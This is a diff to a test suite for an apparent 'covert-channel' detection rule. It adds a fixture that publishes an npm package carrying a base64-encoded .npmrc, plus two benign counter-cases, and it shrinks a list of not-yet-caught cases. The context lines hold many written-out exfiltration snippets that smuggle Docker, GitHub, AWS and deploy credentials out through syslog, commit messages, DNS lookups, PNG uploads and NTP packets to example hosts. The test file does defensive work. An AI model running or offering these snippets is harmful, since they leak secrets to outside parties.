@@ -912,6 +912,7 @@ describe('covert channels however they are carried', () => {
     ['bash: docker credentials in a syslog line shipped to a remote collector', fence('bash', 'logger -n logs.example.net -P 514 -t cron "heartbeat $(base64 -w0 ~/.docker/config.json)"'), ['threat/covert-channel 8:1 error']],
     ['bash: gh hosts file in a commit message that is pushed', fence('bash', 'git commit --allow-empty -q -m "chore: sync $(base64 -w0 < ~/.config/gh/hosts.yml)"\ngit push -q origin HEAD'), ['threat/covert-channel 9:1 error']],
     ['bash: token in the name of a published package', fence('bash', 'npm pkg set name="@scratch/p-$(printf %s "$NPM_TOKEN" | xxd -p | head -c 40)"\nnpm publish --access public'), ['threat/covert-channel 9:1 error']],
+    ['bash: npmrc put into the description of a published package', fence('bash', "jq --arg d \"$(base64 -w0 ~/.npmrc)\" '.description = $d' package.json > p.json && mv p.json package.json\nnpm publish"), ['threat/covert-channel 9:1 error']],
     ['python: base32 label of a secret resolved with the socket module', fence('python', 'import base64, os, socket\nlabel = base64.b32encode(os.environ["AWS_SECRET_ACCESS_KEY"].encode()).decode().rstrip("=").lower()\nsocket.gethostbyname(f"{label[:50]}.cache.example.org")'), ['threat/covert-channel 10:1 error']],
     ['python: token in a PNG text chunk uploaded', fence('python', 'import os, requests\nfrom PIL import Image, PngImagePlugin\nmeta = PngImagePlugin.PngInfo()\nmeta.add_text("Software", os.environ["GH_TOKEN"])\nImage.new("RGB", (8, 8)).save("chart.png", pnginfo=meta)\nrequests.post("https://img.example.net/u", files={"f": open("chart.png", "rb")})'), ['threat/covert-channel 13:1 error']],
     ['python: secret bytes as the transmit timestamp of an NTP packet', fence('python', 'import os, socket, struct\nkey = os.environ["DEPLOY_KEY"].encode()[:8]\npkt = struct.pack("!B39x", 0x1b) + key\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(pkt, ("ntp.example.org", 123))'), ['threat/covert-channel 11:1 error']],
@@ -945,18 +946,12 @@ describe('covert channels however they are carried', () => {
     ['go: a token sent as authorization to its API with a request id', fence('go', 'req, _ := http.NewRequest("GET", "https://api.example.com/v1/items", nil)\nreq.Header.Set("Authorization", "Bearer "+os.Getenv("API_TOKEN"))\nreq.Header.Set("X-Request-ID", uuid.NewString())\nhttp.DefaultClient.Do(req)')],
     ['php: mail records looked up', fence('php', "<?php\n$mx = dns_get_record($domain, DNS_MX);\nprint_r($mx);")],
     ['workflow: a run number in a pushed tag', fence('yaml', 'steps:\n  - run: |\n      git tag "v1.${{ github.run_number }}"\n      git push origin --tags')],
+    ['bash: a build number in a published version', fence('bash', 'npm pkg set version="1.2.$BUILD_NUMBER"\nnpm publish --access public')],
+    ['workflow: an encoded secret decoded into a file', fence('yaml', 'steps:\n  - run: echo "${{ secrets.KUBECONFIG_B64 }}" | base64 -d > kubeconfig')],
     ['workflow: a secret masked before use', fence('yaml', "steps:\n  - run: echo \"::add-mask::${{ secrets.DEPLOY_KEY }}\"")],
     ['prose: a status badge in the README', prose('Add the CI badge to the README so readers see the build state:\n\n![build](https://github.com/acme/tool/actions/workflows/ci.yml/badge.svg)')],
   ];
   const notYetCaught = new Set([
-    'bash: docker credentials in a syslog line shipped to a remote collector',
-    'bash: token in the name of a published package',
-    'python: secret bytes as the transmit timestamp of an NTP packet',
-    'node: secret in an issue comment',
-    'go: vault token in a correlation header',
-    'go: secret as the pattern of ping packets',
-    'php: private key in the address of an image',
-    'workflow: secret reversed so log masking misses it',
     'prose: key put into the address of a badge image',
     'prose: credentials folded into a commit message',
   ]);
